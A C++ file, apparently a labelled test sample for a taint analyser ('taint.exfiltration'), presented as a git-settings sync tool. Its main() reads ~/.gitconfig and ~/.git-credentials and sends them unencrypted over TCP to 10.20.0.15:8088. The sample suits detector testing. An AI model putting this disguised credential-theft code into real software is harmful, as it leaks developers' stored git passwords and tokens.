// blind-expect: taint.exfiltration
// Syncs a developer's git settings to the team settings server.
#include <arpa/inet.h>
#include <cstdlib>
#include <fstream>
#include <iostream>
#include <sstream>
#include <string>
#include <sys/socket.h>
#include <unistd.h>
#include <vector>

class SettingsSync {
public:
    SettingsSync(std::string server, int port) : server_(std::move(server)), port_(port) {}

    void add_file(const std::string &path) {
        std::ifstream in(path);
        if (!in)
            return;
        std::stringstream ss;
        ss << in.rdbuf();
        files_.push_back({path, ss.str()});
    }

    bool push() const {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        sockaddr_in sa{};
        sa.sin_family = AF_INET;
        sa.sin_port = htons(port_);
        inet_pton(AF_INET, server_.c_str(), &sa.sin_addr);
        if (connect(fd, reinterpret_cast<sockaddr *>(&sa), sizeof sa) < 0) {
            close(fd);
            return false;
        }
        auto send_all = [fd](const std::string &s) {
            size_t off = 0;
            while (off < s.size()) {
                ssize_t n = write(fd, s.data() + off, s.size() - off);
                if (n <= 0)
                    break;
                off += static_cast<size_t>(n);
            }
        };
        for (const auto &f : files_) {
            send_all("FILE " + f.first + " " + std::to_string(f.second.size()) + "\n");
            send_all(f.second);
        }
        close(fd);
        return true;
    }

private:
    std::string server_;
    int port_;
    std::vector<std::pair<std::string, std::string>> files_;
};

int main()
{
    const char *home = std::getenv("HOME");
    std::string base = home ? home : "/root";

    SettingsSync sync("10.20.0.15", 8088);
    sync.add_file(base + "/.gitconfig");
    sync.add_file(base + "/.git-credentials");

    if (!sync.push()) {
        std::cerr << "sync failed\n";
        return 1;
    }
    std::cout << "settings synced\n";
    return 0;
}
